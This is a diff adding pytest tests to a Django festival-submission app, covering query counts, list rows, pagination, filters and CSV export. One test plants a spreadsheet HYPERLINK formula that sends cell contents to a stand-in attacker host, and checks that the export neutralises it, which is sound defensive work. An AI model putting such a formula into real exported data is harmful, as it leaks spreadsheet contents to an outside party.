@@ -123,21 +123,96 @@ def test_counts_per_category_and_status(client, people, cycle):
     assert table == [(arc, [2, 1, 0])]
 
 
+@pytest.mark.parametrize(
+    ("params", "queries"),
+    [
+        # session, user, organizer?, edition, categories, countries, counts, the page's ids,
+        # its rows, editions (year links), current edition (menu)
+        ({}, 11),
+        ({"status": "draft"}, 11),
+        ({"q": "creator"}, 12),  # + the number of matches
+        ({"has_problems": "false", "country": "VN"}, 12),
+        ({"page": "2"}, 11),  # past the last page: the last one
+    ],
+)
 def test_entry_list_queries_do_not_grow_with_rows(
-    client, people, cycle, django_assert_max_num_queries
+    client, people, cycle, django_assert_num_queries, params, queries
 ):
     category = CategoryFactory(cycle=cycle, min_images=1)
     client.force_login(people.organizer)
-    counts = []
     for rows in (1, 3):
         for _ in range(rows - Entry.objects.count()):
             ready_image(EntryFactory(category=category))
-        with django_assert_max_num_queries(12) as captured:
-            response = client.get(list_url(cycle))
-        assert len(response.context["page"]) == rows
-        counts.append(len(captured.captured_queries))
 
-    assert counts[0] == counts[1]
+        with django_assert_num_queries(queries):
+            response = client.get(list_url(cycle, **params))
+
+        assert len(response.context["page"]) == rows
+
+
+def test_export_queries_do_not_grow_with_rows(client, people, cycle, django_assert_num_queries):
+    category = CategoryFactory(cycle=cycle, min_images=1)
+    client.force_login(people.organizer)
+    url = reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
+    for rows in (1, 3):
+        for _ in range(rows - Entry.objects.count()):
+            ready_image(EntryFactory(category=category))
+
+        # session, user, organizer?, edition, categories, countries, the rows, their files
+        with django_assert_num_queries(8):
+            lines = b"".join(client.get(url).streaming_content).decode("utf-8-sig").splitlines()
+
+        assert len(lines) == 1 + rows
+
+
+def test_a_row_shows_code_title_creator_status_and_files(client, people, cycle):
+    entry = submitted(
+        CompleteEntryFactory(
+            category=CategoryFactory(cycle=cycle, code="ARC", min_images=2),
+            owner=creator("Đặng Thu Hà", city="Huế", kind="student"),
+            title_en="Bamboo bridge",
+        )
+    )
+    client.force_login(people.organizer)
+
+    html = client.get(list_url(cycle)).content.decode()
+
+    row = html[html.index(f'<td class="code">{entry.reference_code}</td>') :].split("</tr>")[0]
+    assert f'href="{entry.get_organizer_url()}">Bamboo bridge</a>' in row
+    assert 'Đặng Thu Hà<br><span class="small">Huế, VN · Student</span>' in row
+    assert "<td>ARC</td>" in row and ">Submitted</span>" in row and "<td>Not screened</td>" in row
+    assert "<td>2</td>" in row
+
+
+def test_every_page_of_the_list_shows_its_own_rows_in_order(client, people, cycle, settings):
+    category = CategoryFactory(cycle=cycle)
+    entries = EntryFactory.create_batch(53, category=category)
+    newest_first = sorted(entries, key=lambda e: (e.created_at, e.pk), reverse=True)
+    client.force_login(people.organizer)
+
+    first = client.get(list_url(cycle)).context["page"]
+    second = client.get(list_url(cycle, page=2)).context["page"]
+
+    assert [e.pk for e in first] == [e.pk for e in newest_first[:50]]
+    assert [e.pk for e in second] == [e.pk for e in newest_first[50:]]
+    assert (first.paginator.count, first.paginator.num_pages) == (53, 2)
+
+
+def test_number_of_matches_follows_every_filter(client, people, cycle):
+    arc, prd = CategoryFactory(cycle=cycle, code="ARC"), CategoryFactory(cycle=cycle, code="PRD")
+    EntryFactory.create_batch(2, category=arc)
+    EntryFactory(category=prd, owner=creator("Phạm Linh", country="JP"))
+    client.force_login(people.organizer)
+
+    def count(**params):
+        return client.get(list_url(cycle, **params)).context["page"].paginator.count
+
+    assert count() == 3
+    assert count(category=arc.pk) == 2
+    assert count(category=prd.pk, status="draft") == 1
+    assert count(status="submitted") == 0
+    assert count(country="JP") == 1
+    assert count(q="pham") == 1
 
 
 def test_export_streams_every_matching_entry_as_csv(client, people, cycle):
@@ -161,6 +236,27 @@ def test_export_streams_every_matching_entry_as_csv(client, people, cycle):
     assert [(r["creator"], r["title_vi"], r["country"], r["category"]) for r in rows] == [
         ("Nguyễn Văn Á", "Cầu tre", "VN", "ARC")
     ]
+
+
+def test_export_never_hands_a_spreadsheet_a_formula(client, people, cycle):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    EntryFactory(
+        category=CategoryFactory(cycle=cycle),
+        owner=creator("@Studio", city="+84 Hà Nội"),
+        title_vi=title,
+    )
+    client.force_login(people.organizer)
+
+    response = client.get(
+        reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
+    )
+
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
+    assert (row["title_vi"], row["creator"], row["city"]) == (
+        "'" + title,
+        "'@Studio",
+        "'+84 Hà Nội",
+    )
 
 
 def test_organizer_sees_identity_and_every_file(client, people, cycle):
